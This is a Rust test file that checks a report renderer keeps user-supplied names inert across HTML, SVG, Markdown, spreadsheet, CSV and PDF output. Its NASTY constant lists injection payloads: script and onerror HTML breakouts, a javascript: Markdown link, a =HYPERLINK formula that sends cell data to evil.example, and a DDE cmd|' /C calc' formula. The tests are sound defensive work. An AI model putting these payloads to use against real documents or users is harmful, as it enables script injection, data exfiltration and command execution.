//! Names from a scenario stay names: not HTML, not script, not Markdown, not a formula, not an action of a PDF.

use std::io::Cursor;
use std::sync::OnceLock;

use calamine::{Data, Reader as _, Xlsx};
use drawdown::report::render::{html, md, pdf, xlsx};
use drawdown::report::render::{picture, svg};
use drawdown::scenario;

use super::made::Made;
use crate::kit::tools;
use crate::kit::{each_of, some};

/// Each would do harm somewhere.
pub(crate) const NASTY: [&str; 5] = [
    "</script><script>window.hit=1</script><img src=x onerror=window.hit=1>",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"go\")",
    "a|b](javascript:alert(1)) ![x](http://evil.example/i.png) **c** `d`\n# head",
    "\" onload=\"window.hit=1\" x='{{ 7*7 }}{% raw %}&amp;",
    "@SUM(1+1)*cmd|' /C calc'!A0 \\input{x} #import \"y\" \u{7}\u{202e}",
];

/// The tutorial with harmful names in every place that takes one.
pub(crate) fn nasty() -> &'static Made {
    static MADE: OnceLock<Made> = OnceLock::new();
    MADE.get_or_init(|| {
        // JSON's strings are TOML's.
        let quoted = |i: usize| serde_json::to_string(NASTY[i]).expect("a string");
        let text = scenario::starter()
            .replace("\"Three camps in six weeks\"", &quoted(0))
            .replace("\"North camp\"", &quoted(1))
            .replace("\"Soldiers\"", &quoted(2))
            .replace("\"Containers (COE)\"", &quoted(3))
            .replace("\"Passenger charter\"", &quoted(4))
            .replace("contributor = \"A\"", &format!("contributor = {}", quoted(1)))
            .replace("id = \"east\"\n", &format!("id = \"east\"\nname = {}\n", quoted(0)))
            .replace("id = \"port\"\n", &format!("id = \"port\"\nname = {}\n", quoted(3)))
            .replace("id = \"hub-port\"\n", &format!("id = \"hub-port\"\nname = {}\n", quoted(4)))
            .replace(
                "pay_per_month = 3000",
                &format!("pay_per_month = {{ value = 3000, quality = \"assumed\", source = {} }}", quoted(2)),
            );
        Made::of(&text)
    })
}

#[test]
fn names_do_not_become_html() {
    let page = html::render(&nasty().view()).expect("a page");
    assert_eq!(page.matches("<script").count(), 1);
    assert_eq!(page.matches("</script").count(), 1);
    for tag in ["<img", "<b>", "<iframe", "<a href=\"http", "onerror=window.hit=1>"] {
        assert!(!page.contains(tag), "{tag}");
    }
    // A quote that ends an attribute would come unescaped before `onload`.
    assert!(!page.contains("\" onload=") && page.contains("{{ 7*7 }}"));
    assert!(page.contains("&lt;script&gt;window.hit=1"));
}

#[test]
fn names_do_not_become_markup_of_pictures() {
    for (i, c) in some(nasty().view().sections.iter().flat_map(|s| &s.charts)).into_iter().enumerate() {
        let file = svg::draw(c);
        assert!(!file.contains("<script") && !file.contains("<img") && !file.contains("<b>"), "{}", c.key);
        if i % each_of(3) == 0 {
            picture::png(c).expect("well-formed in spite of the names");
        }
    }
}

#[test]
fn names_do_not_become_markdown() {
    let text = md::render(&nasty().view());
    for live in ["<script", "<img", "](javascript", "](http", "**c**", "`d`", "http://evil", "\n# head"] {
        let found = text.match_indices(live).find(|(at, _)| !text[..*at].ends_with('\\'));
        assert!(found.is_none(), "{live} is live in:\n{}", found.map_or("", |(at, _)| &text[at.saturating_sub(80)..]));
    }
    // A bar in a name does not make a column: each row has as many bars as its table's rule.
    let bars = |line: &str| line.matches('|').count() - line.matches("\\|").count();
    let lines: Vec<&str> = text.lines().collect();
    for (i, rule) in some(lines.iter().enumerate().filter(|(_, l)| l.starts_with("| --"))) {
        for row in lines[i..].iter().take_while(|l| l.starts_with('|')) {
            assert_eq!(bars(row), bars(rule), "{row}");
        }
    }
}

#[test]
fn names_do_not_become_formulas() {
    let bytes = xlsx::render(&nasty().view()).expect("a workbook");
    let mut book = Xlsx::new(Cursor::new(bytes)).expect("it is read");
    let mut verbatim = 0;
    for name in some(book.sheet_names()) {
        let formulas = book.worksheet_formula(&name).expect("formulas");
        assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "{name} has formulas");
        let range = book.worksheet_range(&name).expect("cells");
        verbatim += range.used_cells().filter(|(_, _, c)| **c == Data::String(NASTY[1].into())).count();
    }
    assert!(verbatim >= 2, "the name is kept as it is");
    for t in some(&nasty().view().annex) {
        let csv = String::from_utf8(t.csv()).expect("text");
        assert!(
            !csv.contains(",=HYPERLINK") && !csv.contains(",\"=HYPERLINK") && !csv.contains("\n\"=HYPERLINK"),
            "{}",
            t.key
        );
    }
}

#[test]
fn names_do_not_become_actions_of_a_document() {
    let bytes = pdf::render(&nasty().view(), pdf::Paper::A4).expect("a document");
    let has = |what: &[u8]| bytes.windows(what.len()).any(|w| w == what);
    assert!(!has(b"/JavaScript") && !has(b"/URI") && !has(b"/Launch") && !has(b"/OpenAction"));
    let file = tempfile::NamedTempFile::new().expect("a file");
    std::fs::write(file.path(), &bytes).expect("written");
    let Some(pages) = tools::pdf_pages(file.path(), "names in the PDF") else { return };
    assert!(pages.join("").contains("<script>window.hit=1</script>"), "shown as it is");
}
